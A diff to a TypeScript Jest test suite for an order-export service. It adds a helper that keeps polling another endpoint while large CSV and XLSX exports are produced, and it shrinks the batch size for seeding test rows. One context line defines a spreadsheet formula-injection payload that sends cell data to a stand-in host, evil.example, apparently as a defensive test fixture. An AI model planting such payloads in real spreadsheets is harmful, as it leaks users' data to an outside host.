@@ -9,6 +9,7 @@ jest.setTimeout(120_000);
 
 const EVIL = `=HYPERLINK("http://evil.example?"&A1;"ok")`;
 const MOSCOW = 3 * 3_600_000;
+const ASKED_EVERY_MS = 20;
 
 /** Days since the end of 1899, as spreadsheets count, of an instant on Moscow's clock, to the second. */
 const serialOf = (iso: string) => Math.floor((Date.parse(iso) + MOSCOW) / 1_000) / 86_400 + 25_569;
@@ -244,27 +245,37 @@ describe('a file of 50,000 rows', () => {
   });
   afterAll(() => shop.close());
 
-  it('is written whole, each row once, while new ones come in', async () => {
-    const writing = csv(shop.admin, '/external-orders/export?to=2100-01-01');
-    const arriving = { event: 'order.created', order: orderOf('NEW') };
-    const { body } = await shop.postToLink(arriving);
-    const ids = (await writing).map((row) => row['Внешний заказ']);
-    expect([50_000, 50_001]).toContain(ids.length);
-    expect(new Set(ids).size).toBe(ids.length);
-    await shop.admin.delete(`/external-orders/${body.externalOrderId}`, { reason: 'one too many' });
-  });
-
-  it.each(['csv', 'xlsx'])('keeps nobody waiting while %s is made', async (format) => {
+  /** Asks for something else over and over while a file is made. */
+  async function whileAsking<T>(making: Promise<T>): Promise<{ made: T; answered: number }> {
     let isOver = false;
-    const writing = download(shop.admin, `/external-orders/export?format=${format}`).finally(() => {
+    const made = making.finally(() => {
       isOver = true;
     });
     let answered = 0;
     while (!isOver) {
       await shop.admin.get('/regions');
       answered += 1;
+      // As people ask: requests without a pause would only make the file late.
+      await new Promise((resolve) => setTimeout(resolve, ASKED_EVERY_MS));
     }
-    expect((await writing).status).toBe(200);
+    return { made: await made, answered };
+  }
+
+  it('is written whole as csv, each row once, while new ones come in, and keeps nobody waiting', async () => {
+    const writing = whileAsking(csv(shop.admin, '/external-orders/export?to=2100-01-01'));
+    const arriving = { event: 'order.created', order: orderOf('NEW') };
+    const { body } = await shop.postToLink(arriving);
+    const { made, answered } = await writing;
+    const ids = made.map((row) => row['Внешний заказ']);
+    expect([50_000, 50_001]).toContain(ids.length);
+    expect(new Set(ids).size).toBe(ids.length);
+    expect(answered).toBeGreaterThan(20);
+    await shop.admin.delete(`/external-orders/${body.externalOrderId}`, { reason: 'one too many' });
+  });
+
+  it('is made as xlsx and keeps nobody waiting', async () => {
+    const { made, answered } = await whileAsking(download(shop.admin, '/external-orders/export?format=xlsx'));
+    expect(made.status).toBe(200);
     expect(answered).toBeGreaterThan(20);
   });
 
@@ -287,11 +298,11 @@ async function copyFirst(shop: Shop, count: number): Promise<void> {
   const number = places.map((place, index) => `${place}.n * ${10 ** index}`).join(' + ');
   const numbers = `SELECT ${number} AS n FROM ${places.map((place) => `${digits} ${place}`).join(' CROSS JOIN ')}`;
   // In parts, since a statement has a time limit.
-  for (let from = 0; from < count; from += 10_000) {
+  for (let from = 0; from < count; from += 2_000) {
     await dataSource.query(
       `INSERT INTO external_orders (${copied.join(', ')})
        SELECT ${values.join(', ')} FROM external_orders CROSS JOIN (${numbers}) numbers
-       WHERE external_orders.id = 1 AND numbers.n >= ${from} AND numbers.n < ${Math.min(from + 10_000, count)}`,
+       WHERE external_orders.id = 1 AND numbers.n >= ${from} AND numbers.n < ${Math.min(from + 2_000, count)}`,
     );
   }
 }
